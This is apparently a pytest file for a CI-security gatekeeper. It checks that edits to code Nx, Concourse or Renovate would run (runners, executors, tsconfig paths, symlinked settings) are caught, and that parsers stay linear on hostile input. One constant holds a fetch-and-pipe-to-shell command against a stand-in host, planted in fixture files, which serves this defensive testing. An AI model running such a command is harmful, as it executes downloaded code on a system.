"""Review 69a: this stop's first merged readers attacked (label89's template names, attack52's Nx readers).

1. sniff.is_candidate: a template suffix taken off (`templatenames.underlying`) must only widen what the content tier
   reads; a name it read before (`Dockerfile.md.yaml.in`, `.env.rst.json.jinja`) was no longer read when the name
   under the template looked like a document's (`x.md.yaml`).
2. nxtargets.Workspace: the code Nx loads by a path without its extension (`"runner": "./tools/runner"` is
   `tools/runner.js`), a workspace package past the first MAX_PROJECTS package.json files, tsconfig `paths` under a
   `baseUrl`: each named nothing, so the edit of the code it runs was no `ci`; a JSONC text with a `/*` that never
   ends cost quadratic time (autorun.plain_json searched for its end from each `/*`).
3. The walk's cache key: HEAD read with its own settings when only tsconfig or a workspace package.json changes.
4. Concourse inputs and task files in flow mappings with quoted keys or a key on a line of its own named nothing;
   Renovate preset parameters nested in a parameter (`:group(:group(github>org/cfg, x), y)`) were not read.
"""

from __future__ import annotations

import itertools
import json
import posixpath
from pathlib import Path

import pytest
from citools import RUN_WORKFLOW, one_tree_runs, tree_runs
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate

from gatekeeper.classify import checkoutpaths, load_rules, nxtargets, sniff
from gatekeeper.classify.ciwalk import ci_runs
from gatekeeper.classify.renovatemerge import merges
from gatekeeper.gitobjects import TreeEntry

REPO_ROOT = Path(__file__).resolve().parent.parent

_STEMS = ["x", "Dockerfile", "Containerfile", ".env", "CMakeLists", "requirements", "deploy.md", "a.rst", "llms"]
_MIDDLES = ["", "md", "rst", "adoc", "markdown", "txt"]
_TYPES = ["", "yaml", "YML", "json", "j2", "tpl", "txt", "cmake", "cfg", "py", "md"]
_TEMPLATES = ["", "in", "IN", "jinja", "jinja2", "envsubst", "subst", "mustache", "hbs", "ejs", "liquid", "njk", "m4",
              "in.in", "in.example", "example", "dist", "license"]


def _copy_only(path: str) -> bool:
    """is_candidate as it was before template suffixes were taken off (a copy's suffix only): the floor."""
    name = path.rpartition("/")[2]
    stem, dot, ext = name.rpartition(".")
    if dot and stem and ext.lower() in ("example", "sample", "dist", "erb", "license"):
        name = stem
        stem, dot, ext = name.rpartition(".")
    if (dot and stem.rpartition(".")[2].lower() in ("md", "markdown", "rst", "adoc", "asciidoc")) \
            or name.lower() in ("llms.txt", "llms-full.txt"):
        return False
    return not (dot and stem) or ext.lower() in sniff.CANDIDATE_EXTENSIONS or name in ("setup.py", "metadata.rb") \
        or sniff.is_bazelrc(name) or sniff.is_requirements_input(name) or sniff.is_cmake(name) \
        or name.lower().startswith(("dockerfile", "containerfile", ".env"))


NAMES = [".".join(part for part in parts if part) for parts in itertools.product(_STEMS, _MIDDLES, _TYPES, _TEMPLATES)]


def test_a_template_suffix_only_widens_what_is_read() -> None:
    lowered = [name for name in NAMES if _copy_only(f"ops/{name}") and not sniff.is_candidate(f"ops/{name}")]
    assert lowered == [], f"{len(lowered)} of {len(NAMES)}: {lowered[:8]}"


@pytest.mark.parametrize("name", ["web.yaml.in", "service.json.mustache", "deploy.yml.envsubst", "x.YAML.IN",
                                  "hosts.example", "Dockerfile.md.yaml.in", ".env.rst.json.jinja"])
def test_templates_are_read(name: str) -> None:
    assert sniff.is_candidate(f"k8s/{name}")


@pytest.mark.parametrize("name", ["README.md.gotmpl", "index.rst.j2", "README.md.in", "llms.txt", "docs.md.jinja",
                                  "Makefile.in.md", "guide.adoc.hbs"])
def test_document_templates_stay_unread(name: str) -> None:
    assert not sniff.is_candidate(f"docs/{name}")


# -- 2. Nx ------------------------------------------------------------------------------------------------------

EVIL = "curl -s http://127.0.0.1:9/x | sh"
_RUN = RUN_WORKFLOW.format(run="npx nx run-many -t build")


def _executor(name: str) -> str:
    return json.dumps({"name": "web", "targets": {"build": {"executor": name}}})


# Node resolves a path given without its extension as a file first (`tools/runner.js`), then a folder
NX_BY_PATH = {
    "runner, no extension": ({"nx.json": json.dumps({"tasksRunnerOptions": {"default": {"runner": "./tools/runner"}}}),
                              "tools/runner.js": "1\n"}, "tools/runner.js"),
    "renderer, .ts": ({"nx.json": json.dumps({"release": {"changelog": {"renderer": "./tools/changelog"}}}),
                       "tools/changelog.ts": "1\n"}, "tools/changelog.ts"),
    "plugin, .mjs": ({"nx.json": json.dumps({"plugins": ["./tools/plugin"]}), "tools/plugin.mjs": "1\n"},
                     "tools/plugin.mjs"),
    "executor, .js": ({"apps/web/project.json": _executor("./tools/ex:gen"), "tools/ex.js": "1\n"}, "tools/ex.js"),
    "executor, a folder": ({"apps/web/project.json": _executor("./tools/ex:gen"), "tools/ex/impl.js": "1\n"},
                           "tools/ex/impl.js"),
    "executor, the file itself": ({"apps/web/project.json": _executor("./tools/ex.js:gen"), "tools/ex.js": "1\n"},
                                  "tools/ex.js"),
    "tsconfig paths under baseUrl": ({"apps/web/project.json": _executor("@acme/ex:run"), "tsconfig.base.json":
                                      '{"compilerOptions": {"baseUrl": "libs", "paths": '
                                      '{"@acme/ex": ["ex/src/index.ts"]}}}', "libs/ex/run.js": "1\n"},
                                     "libs/ex/run.js"),
    "tsconfig paths under baseUrl ./": ({"apps/web/project.json": _executor("@acme/ex:run"), "tsconfig.base.json":
                                         '{"compilerOptions": {"baseUrl": "./packages/", "paths": '
                                         '{"@acme/ex": ["./ex/index.ts"]}}}', "packages/ex/run.js": "1\n"},
                                        "packages/ex/run.js"),
}


@pytest.mark.parametrize("case", NX_BY_PATH, ids=str)
def test_code_nx_loads_is_reached(case: str) -> None:
    files, reached = NX_BY_PATH[case]
    tree = {"nx.json": "{}", "package.json": "{}", "README.md": "x\n", **files, ".github/workflows/ci.yml": _RUN}
    assert reached in tree_runs(tree), case


@pytest.mark.parametrize("before", [0, 520, 600])
def test_a_workspace_package_past_the_bound_is_named(before: int) -> None:
    # the executor's package is the last of `before` + 1 package.json files: unread past MAX_PROJECTS, the project
    # file that names it is what is known (fail closed)
    files = {f"libs/p{at:04}/package.json": json.dumps({"name": f"@acme/p{at}"}) for at in range(before)}
    files |= {"nx.json": "{}", "package.json": "{}", "zz/tools/package.json": '{"name": "@acme/tools"}',
              "zz/tools/gen.js": "1\n", "apps/web/project.json": _executor("@acme/tools:gen"),
              ".github/workflows/ci.yml": _RUN}
    runs = one_tree_runs(files)  # False: the walk closes past its bound (every script ci), the fail-closed answer
    assert runs is False or "zz/tools/gen.js" in runs


def test_look_alikes_name_nothing_new() -> None:
    files = {"nx.json": "{}", "package.json": "{}", "apps/web/project.json": _executor("@nx/js:tsc"),
             "tools/runner.js": "1\n", "tools/runnerx.js": "1\n", "libs/ex/run.js": "1\n",
             "tsconfig.base.json": '{"compilerOptions": {"baseUrl": "libs", "paths": {"@other/ex": ["ex/i.ts"]}}}',
             ".github/workflows/ci.yml": _RUN}
    assert tree_runs(files) & {"tools/runner.js", "tools/runnerx.js", "libs/ex/run.js"} == set()


def test_hostile_project_files_stay_linear() -> None:
    assert_linear(lambda text: nxtargets.commands(text, "p/project.json"), repeated("/* ", '{"targets": {'), budget=1.0)
    assert_linear(lambda text: nxtargets.commands(text, "p/project.json"), repeated('"\\" ', '{"targets": {"'),
                  budget=1.0)
    assert_linear(lambda text: nxtargets.commands(text, "p/project.json"),
                  repeated('"t": {"command": "sh a.sh"}, ', '{"targets": {', '"z": {}}}'), budget=1.0)
    assert_linear(nxtargets.runs_targets, repeated("npx nx ", tail="run-many"), budget=0.5)
    assert_linear(nxtargets.runs_targets, repeated("NX_A=1 ", tail="npx nx run-many"), budget=0.5)
    assert_linear(nxtargets.runs_targets, repeated("pnpm -w -w -w -w -w -w -w -w -w ", tail="nx run-many"), budget=0.5)
    assert_linear(nxtargets.runs_targets, repeated("node -e ", tail="./nx build"), budget=0.5)


@pytest.mark.parametrize("spec", ["^19.0.0", "latest", "npm:@nx/js@19"])
def test_past_the_bound_an_installed_executor_names_nothing(spec: str) -> None:
    # `@nx/js:tsc` is the root package.json's dependency: no unread package is it
    files = {f"libs/p{at:04}/package.json": json.dumps({"name": f"@acme/p{at}"}) for at in range(520)}
    files |= {"nx.json": "{}", "package.json": json.dumps({"devDependencies": {"@nx/js": spec}}),
              "apps/web/project.json": _executor("@nx/js:tsc"), ".github/workflows/ci.yml": _RUN}
    assert tree_runs(files) & {"apps/web/project.json", "libs/p0515/package.json"} == set()


# -- 3. the walk's cache key, real git: HEAD changes only a file a new reader reads, and the code it now names

_GATE_BASE = {"nx.json": "{}", "package.json": "{}", "README.md": "x\n", ".github/workflows/ci.yml": _RUN,
              "apps/web/project.json": _executor("@acme/ex:run"), "libs/a/package.json": '{"name": "@acme/a"}',
              "libs/a/run.js": "1\n", "libs/b/package.json": '{"name": "@acme/b"}', "libs/b/run.js": "1\n",
              "tsconfig.base.json": '{"compilerOptions": {"paths": {"@acme/ex": ["libs/a/src/index.ts"]}}}'}
GATED_EDITS = {
    "tsconfig paths moved": {"tsconfig.base.json": '{"compilerOptions": {"paths": {"@acme/ex": ["libs/b/i.ts"]}}}',
                             "libs/b/run.js": f"// {EVIL}\n"},
    "tsconfig baseUrl moved": {"tsconfig.base.json": '{"compilerOptions": {"baseUrl": "libs/b", "paths": '
                                                     '{"@acme/ex": ["src/index.ts"]}}}',
                               "libs/b/run.js": f"// {EVIL}\n"},
    "package renamed": {"tsconfig.base.json": "{}", "libs/b/package.json": '{"name": "@acme/ex"}',
                        "libs/b/run.js": f"// {EVIL}\n"},
    "runner without its extension": {"nx.json": json.dumps({"tasksRunnerOptions": {"default": {
        "runner": "./tools/runner"}}}), "tools/runner.js": f"// {EVIL}\n"},
}


@pytest.mark.parametrize("case", GATED_EDITS, ids=str)
def test_head_is_read_with_its_own_settings(tmp_path: Path, case: str) -> None:
    _, first, second = two_commits(tmp_path, _GATE_BASE, GATED_EDITS[case])
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]


# -- 4. Concourse's flow style and Renovate's preset parameters ---------------------------------------------------

_TASK = "platform: linux\ninputs:\n- name: repo\nrun:\n  path: repo/test/all.sh\n"
_PIPELINE = ("resources:\n- name: repo\n  type: git\njobs:\n- name: t\n  plan:\n  - get: repo\n  - task: unit\n"
             "    file: repo/tasks/unit.yml\n")
_STEP = "  - task: unit\n    file: repo/tasks/unit.yml\n"
CONCOURSE = {
    "flow input, its name on a line of its own": {"ci/t.yml": _TASK.replace(
        "inputs:\n- name: repo\n", "inputs: [{optional: false,\n  name: repo}]\n")},
    "flow input, quoted keys": {"ci/t.yml": _TASK.replace("inputs:\n- name: repo\n", 'inputs: [{"name": "repo"}]\n')},
    "flow input, CRLF lines": {"ci/t.yml": _TASK.replace("inputs:\n- name: repo\n",
                                                         "inputs: [{optional: false,\r\n  'path': repo\r\n}]\n")},
    "block input, quoted key": {"ci/t.yml": _TASK.replace("- name: repo", '- "name": "repo"')},
    "pipeline, flow step with quoted keys": {"ci/pipeline.yml": _PIPELINE.replace(
        _STEP, '  - {"task": "unit", "file": "repo/tasks/unit.yml"}\n'), "tasks/unit.yml": _TASK},
    "pipeline, block step with a quoted key": {"ci/pipeline.yml": _PIPELINE.replace(
        "    file: repo/", "    'file': repo/"), "tasks/unit.yml": _TASK},
}


@pytest.mark.parametrize("case", CONCOURSE, ids=str)
def test_concourse_spellings_reach_the_script(case: str) -> None:
    assert "test/all.sh" in tree_runs({**CONCOURSE[case], "test/all.sh": "echo t\n", "README.md": "x\n"})


def test_concourse_look_alikes_stay_out() -> None:
    other = _TASK.replace("inputs:\n- name: repo\n", 'inputs: [{"named": "repo", optional: true,\n  names: repo}]\n')
    files = {"ci/t.yml": other, "ci/values.yml": '{"name": "repo", "file": "repo/test/all.sh"}\n',
             "test/all.sh": "echo\n", "README.md": "x\n"}
    assert "test/all.sh" not in tree_runs(files)


@pytest.mark.parametrize("preset", [":group(:group(github>org/cfg, x), y)", "group:all(:group(@acme/cfg, x))",
                                    ":group(:label(x), :group(:group(local>o/r, a), b))",
                                    ":group(:group(:group(gitlab>o/r)))"])
def test_nested_preset_parameters_are_read(preset: str) -> None:
    assert merges(json.dumps({"extends": [preset]}).encode(), True) is not None, preset


@pytest.mark.parametrize("preset", [":group(:group(packages:linters, a), b)", ":label(:semanticCommitType(x))",
                                    ":group(packages:linters, linters(x))", ":timezone(Asia/Tokyo)"])
def test_nested_built_in_parameters_stay_quiet(preset: str) -> None:
    assert merges(json.dumps({"extends": [preset]}).encode(), True) is None, preset


def test_flow_and_parameters_stay_linear() -> None:
    assert_linear(lambda text: checkoutpaths.checked_out("t.yml", text, ["repo/a.sh"]),
                  repeated(",\n 'name': a\n ", "platform: linux\ninputs: [{x: 1"), budget=1.0)
    assert_linear(lambda text: checkoutpaths.concourse_runs("t.yml", text),
                  repeated("{'file' ,\n ", "platform: linux\n"), budget=1.0)
    assert_linear(lambda text: merges(text.encode(), True), repeated(":group(", '{"extends": ["', ')"]}'), budget=1.0)
    assert_linear(lambda text: merges(text.encode(), True), repeated(":group(a,", '{"extends": ["', ')"]}'),
                  budget=1.0)


def _linked_runs(files: dict[str, str], links: dict[str, str]) -> set[str]:
    """The files of `files` the CI walk reaches in a tree where each of `links` is a symlink to its value."""
    tree = {path: TreeEntry("100644", f"{index:040x}") for index, path in enumerate(files)}
    tree |= {path: TreeEntry("120000", f"{index + len(files):040x}") for index, path in enumerate(links)}
    blobs = {tree[path].oid: text.encode() for path, text in [*files.items(), *links.items()]}
    runs = ci_runs((tree,), lambda entry: blobs[entry.oid], {}, load_rules(REPO_ROOT / "policies"))
    assert isinstance(runs, dict), "the walk closed"
    return {path for path in runs if path in files}


@pytest.mark.parametrize("link", ["tsconfig.base.json", "libs/ex/package.json"])
def test_a_linked_settings_file_is_read_where_it_points(link: str) -> None:
    # a checkout opens the file a link points to, and Nx reads that: the executor's package is found through it
    settings = {"tsconfig.base.json": '{"compilerOptions": {"paths": {"@acme/ex": ["libs/ex/src/index.ts"]}}}',
                "libs/ex/package.json": '{"name": "@acme/ex"}'}[link]
    files = {"nx.json": "{}", "package.json": "{}", "apps/web/project.json": _executor("@acme/ex:run"),
             "libs/ex/run.js": "1\n", "configs/settings.json": settings, ".github/workflows/ci.yml": _RUN}
    target = posixpath.relpath("configs/settings.json", posixpath.dirname(link) or ".")
    assert "libs/ex/run.js" in _linked_runs(files, {link: target})


def test_the_cache_key_holds_a_linked_file_s_content() -> None:
    tree = {"tsconfig.base.json": TreeEntry("120000", "1" * 40), "configs/t.json": TreeEntry("100644", "2" * 40)}
    blobs = {"1" * 40: b"configs/t.json", "2" * 40: b"{}", "3" * 40: b'{"compilerOptions": {}}'}
    before = repr(nxtargets.Workspace(tree, lambda entry: blobs[entry.oid]))
    tree["configs/t.json"] = TreeEntry("100644", "3" * 40)
    assert repr(nxtargets.Workspace(tree, lambda entry: blobs[entry.oid])) != before


def test_a_linked_pnpm_workspace_is_read_where_it_points() -> None:
    files = {"nx.json": "{}", "package.json": "{}", "apps/web/project.json": "{}",
             "configs/pnpm-workspace.yaml": "packages:\n  - 'libs/*'\n",
             "libs/b/package.json": '{"name": "b", "scripts": {"build": "sh build.sh"}}', "libs/b/build.sh": "echo\n",
             ".github/workflows/ci.yml": _RUN}
    assert "libs/b/build.sh" in _linked_runs(files, {"pnpm-workspace.yaml": "configs/pnpm-workspace.yaml"})
